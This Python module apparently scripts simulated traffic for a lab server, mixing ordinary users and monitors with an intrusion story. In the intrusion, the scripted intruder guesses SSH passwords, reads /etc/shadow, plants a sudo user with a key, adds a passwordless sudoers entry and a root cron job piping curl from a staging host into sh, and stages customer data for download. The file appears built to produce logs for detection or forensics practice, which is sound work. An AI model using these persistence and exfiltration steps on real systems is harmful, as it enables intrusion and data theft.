"""The captured stories: what each person, machine and intruder does, and when."""

import http.client
import random
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Literal

from .addresses import captured_address
from .cast import (
    ASSETS,
    BACKUP,
    BROWSERS,
    CRAWLER,
    DOWNLOADER,
    GUESSED_PASSWORDS,
    GUESSED_USERS,
    INGA,
    INTRUDER,
    MONITOR,
    NORA,
    PAGES,
    PETRA,
    PLANTED_ARCHIVE,
    PLANTED_CRON,
    PLANTED_USER,
    PROBE,
    PROBED_PATHS,
    SCANNER,
    SERVER,
    SITE,
    SSH_PORT,
    STAGE,
    STAGE_PORT,
    STOLEN,
    TOMAS,
    WEB_PORT,
    Person,
)
from .services import KEYS

Story = Literal["demo", "calm"]
LASTS = {"demo": 330.0, "calm": 250.0}
"""Seconds that each story takes; long enough for several turns of cron."""

SSH_OPTIONS = (
    *("-o", "StrictHostKeyChecking=no"),
    *("-o", "UserKnownHostsFile=/dev/null"),
    *("-o", "LogLevel=ERROR"),
    *("-o", "NumberOfPasswordPrompts=1"),
    *("-o", "ConnectTimeout=20"),
)


@dataclass(frozen=True, order=True)
class Act:
    """One thing that someone does, so many seconds after the start."""

    at: float
    name: str
    do: Callable[[], None]


def play(story: Story) -> None:
    """Play a story in real time; return when everyone is done."""
    begun = time.monotonic()
    busy = []
    for act in sorted(script(story), key=lambda act: act.at):
        time.sleep(max(0.0, begun + act.at - time.monotonic()))
        thread = threading.Thread(target=act.do, name=act.name, daemon=True)
        thread.start()
        busy.append(thread)
    for thread in busy:
        thread.join(timeout=90)
    time.sleep(max(0.0, begun + LASTS[story] - time.monotonic()))


def script(story: Story) -> list[Act]:
    """Return a story's acts: the ordinary ones, and in the demo the intruder's."""
    acts = list(_ordinary(LASTS[story], random.Random(f"wickett {story}")))
    return acts + (list(_intrusion()) if story == "demo" else list(_forgotten_password()))


# ordinary use


def _ordinary(lasts: float, dice: random.Random) -> Iterator[Act]:
    for second in range(2, int(lasts), 9):
        yield Act(second, "monitor", lambda: _get(MONITOR, PROBE, "/health"))
    for second in range(20, int(lasts), 60):
        yield Act(second, "monitor", _check_ssh_port)
    for second in range(30, int(lasts), 100):
        yield Act(second, "backup", lambda: _ssh(BACKUP, "tar -C /srv -cf - www | sha256sum >/dev/null"))
    yield Act(3, "nora", lambda: _ssh(NORA, _with_sudo(NORA, "nginx -t", "tail -n 20 /var/log/syslog"), terminal=True))
    yield Act(
        16, "petra", lambda: _ssh(PETRA, _with_sudo(PETRA, "tail -n 50 /var/log/capture/error.log"), terminal=True)
    )
    yield Act(12, "inga", lambda: _ssh(INGA, "sleep 9; ls /srv/www"))
    yield Act(
        27,
        "tomas",
        lambda: _ssh(
            TOMAS, "cat /srv/www/papers.html > /srv/www/papers.new; mv /srv/www/papers.new /srv/www/papers.html"
        ),
    )
    yield Act(58, "inga", lambda: _ssh(INGA, "true", password="Quill&harbour"))
    yield Act(66, "inga", lambda: _ssh(INGA, "sleep 12; wc -l /srv/www/delivery.html"))
    yield Act(140, "tomas", lambda: _ssh(TOMAS, "touch /srv/www/envelopes.html; sleep 6"))
    yield Act(205, "nora", lambda: _ssh(NORA, _with_sudo(NORA, "crontab -l", "/usr/sbin/nginx -t"), terminal=True))
    yield Act(5, "nora", lambda: _get(NORA.address, BROWSERS[2], "/admin/"))
    for path_number in range(40):
        path = ("/robots.txt", *PAGES, *(f"/papers.html?sheet={n}" for n in range(40)))[path_number]
        yield Act(40 + 3.1 * path_number, "crawler", lambda path=path: _get("198.51.100.140", CRAWLER, path))  # type: ignore[misc]
    for _ in range(int(lasts / 9)):
        visitor = dice.choice(("198.51.100.", "203.0.113.", "192.0.2.")) + str(dice.randrange(100, 250))
        yield from _visit(visitor, dice.choice(BROWSERS), dice.uniform(1, lasts - 20), dice)


def _visit(visitor: str, browser: str, start: float, dice: random.Random) -> Iterator[Act]:
    """One visitor: some pages with their assets, sometimes a missing icon, sometimes a log-in."""
    second = start
    asked = [*ASSETS, "/favicon.ico"] if dice.random() < 0.4 else list(ASSETS)
    for page in dice.sample(PAGES, k=dice.randint(1, 4)):
        for path in (page, *asked):
            yield Act(second, "visitor", lambda path=path: _get(visitor, browser, path))  # type: ignore[misc]
            second += dice.uniform(0.02, 0.2)
        asked = []
        second += dice.uniform(1, 6)
    if dice.random() < 0.4:
        yield Act(second, "visitor", lambda: _get(visitor, browser, "/account/login", method="POST"))
        yield Act(second + 0.1, "visitor", lambda: _get(visitor, browser, "/account/"))
    if dice.random() < 0.3:
        yield Act(second + 2, "visitor", lambda: _get(visitor, browser, "/cart/add", method="POST"))


def _forgotten_password() -> Iterator[Act]:
    """The calm run's alert: someone mistypes a password several times at the usual desk, then gets it right."""
    for number, wrong in enumerate(("Quill&habrour7", "quill&harbour7", "Quill&harbour8", "Quill&Harbour7")):
        yield Act(104 + 6 * number, "inga", lambda wrong=wrong: _ssh(INGA, "true", password=wrong))  # type: ignore[misc]
    yield Act(131, "inga", lambda: _ssh(INGA, "sleep 20; wc -l /srv/www/contact.html"))


# the intrusion


def _intrusion() -> Iterator[Act]:
    for number, path in enumerate(PROBED_PATHS):
        yield Act(62 + 0.9 * number, "intruder", lambda path=path: _get(INTRUDER, SCANNER, path))  # type: ignore[misc]
    guesses = [(user, password) for password in GUESSED_PASSWORDS for user in GUESSED_USERS]
    for number, (user, password) in enumerate(guesses):
        yield Act(95 + 1.7 * number, "intruder", lambda user=user, password=password: _guess(user, password))  # type: ignore[misc]
    yield Act(184, "intruder", lambda: _guess(PETRA.name, PETRA.password))
    yield Act(190, "intruder", _take_root)
    yield Act(250, "second stage", _steal)
    yield Act(268, "second stage", lambda: _get(STAGE, DOWNLOADER, f"/assets/{PLANTED_ARCHIVE}"))
    yield Act(274, "second stage", _clean_up)


def _guess(user: str, password: str) -> None:
    _ssh(Person(name=user, address=INTRUDER, login="password", password=password), "id")


def _take_root() -> None:
    """Become root through the guessed account; plant an account, its key and a cron entry."""
    public_key = (KEYS / PLANTED_USER).with_suffix(".pub").read_text().strip()
    job = f"* * * * * root curl -fsS http://{captured_address(STAGE)}:{STAGE_PORT}/u.sh | sh >/dev/null 2>&1"
    home = f"/home/{PLANTED_USER}"
    commands = (
        "id",
        "cat /etc/shadow",
        f"useradd -m -s /bin/bash {PLANTED_USER}",
        f"usermod -aG sudo {PLANTED_USER}",
        f"mkdir -p {home}/.ssh",
        f"tee -a {home}/.ssh/authorized_keys <<< '{public_key}'",
        f"chown -R {PLANTED_USER}: {home}/.ssh",
        f"tee {PLANTED_CRON} <<< '{job}'",
        f"tee /etc/sudoers.d/{PLANTED_USER} <<< '{PLANTED_USER} ALL=(ALL) NOPASSWD: ALL'",
    )
    petra_from_afar = Person(name=PETRA.name, address=INTRUDER, login="password", password=PETRA.password)
    _ssh(petra_from_afar, _with_sudo(PETRA, *commands, pause=4), terminal=True)


def _steal() -> None:
    """Log in from the second address with the planted key; pack the customers where the web server serves them."""
    command = (
        f"sudo tar czf /srv/www/assets/{PLANTED_ARCHIVE} {STOLEN}; sudo chmod 644 /srv/www/assets/{PLANTED_ARCHIVE}"
    )
    _ssh(_planted(), f"sleep 3; {command}; sleep 4", terminal=True)


def _clean_up() -> None:
    _ssh(_planted(), f"sudo rm -f /srv/www/assets/{PLANTED_ARCHIVE}", terminal=True)


def _planted() -> Person:
    return Person(name=PLANTED_USER, address=STAGE, login="key", password="")


# clients


def _with_sudo(person: Person, *commands: str, pause: float = 2) -> str:
    """Return a shell line that gives the password once and then runs each command as root."""
    later = "; ".join(f"sleep {pause}; sudo {command}" for command in commands[1:])
    return f"echo '{person.password}' | sudo -S -p '' {commands[0]}" + (f"; {later}" if later else "")


def _ssh(person: Person, command: str, *, password: str | None = None, terminal: bool = False) -> None:
    """Log in as a person from that person's address and run a command; a refused log-in is part of the story."""
    options = [
        *SSH_OPTIONS,
        "-p",
        str(SSH_PORT),
        "-b",
        captured_address(person.address),
        *(["-tt"] if terminal else []),
    ]
    if person.login == "key" and password is None:
        prefix = ["ssh", "-i", str(KEYS / person.name), "-o", "IdentitiesOnly=yes"]
    else:
        prefix = ["sshpass", "-p", password or person.password, "ssh", "-o", "PubkeyAuthentication=no"]
    subprocess.run(
        [*prefix, *options, f"{person.name}@{captured_address(SERVER)}", command],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        timeout=80,
        check=False,
    )


def _get(address: str, agent: str, path: str, method: str = "GET") -> None:
    """Ask the web server for a path from an address; the answer is read and dropped."""
    source = (captured_address(address), 0)
    connection = http.client.HTTPConnection(captured_address(SERVER), WEB_PORT, timeout=10, source_address=source)
    headers = {"Host": f"{SITE}:{WEB_PORT}", "User-Agent": agent}
    try:
        connection.request(method, path, headers=headers)
        connection.getresponse().read()
    except (OSError, http.client.HTTPException):
        return  # the server's log tells how it answered
    finally:
        connection.close()


def _check_ssh_port() -> None:
    """Ask sshd for its banner and hang up, as a monitoring probe does."""
    connection = http.client.HTTPConnection(
        captured_address(SERVER), SSH_PORT, timeout=5, source_address=(captured_address(MONITOR), 0)
    )
    try:
        connection.connect()
        connection.sock.recv(64)
    except OSError:
        return
    finally:
        connection.close()
